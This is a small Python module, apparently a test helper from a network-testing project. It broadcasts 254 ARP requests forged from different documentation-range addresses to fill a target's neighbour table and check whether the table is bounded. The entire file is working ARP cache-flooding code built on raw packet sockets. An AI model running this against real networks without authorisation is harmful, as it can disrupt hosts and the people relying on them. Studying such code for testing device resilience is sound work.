# Copyright (c) 2026, the ringfence.zones authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Ask for a MAC address in the name of many machines: whoever answers keeps an entry for each, in a table of a bounded size."""

from __future__ import annotations

import socket
import struct
from ipaddress import ip_address

NETWORK = "203.0.113."
"""What the addresses begin with, in whose name is asked; of RFC 5737, so nobody's."""

_ARP, _IPV4 = 0x0806, 0x0800
_BROADCAST = b"\xff" * 6


def attack(interface: str, target: str) -> list[list[object]]:
    """Ask for the address ``target``, once for each machine of ``NETWORK``."""
    with open(f"/sys/class/net/{interface}/address", encoding="ascii") as handle:
        mac = bytes.fromhex(handle.read().strip().replace(":", ""))
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sender:
        sender.bind((interface, 0))
        for number in range(1, 255):
            sender.send(_BROADCAST + mac + struct.pack("!H", _ARP) + _request(mac, f"{NETWORK}{number}", target))
    return [["asked", None, "254"]]


def _request(mac: bytes, sender: str, target: str) -> bytes:
    return struct.pack("!HHBBH", 1, _IPV4, 6, 4, 1) + mac + ip_address(sender).packed + bytes(6) + ip_address(target).packed
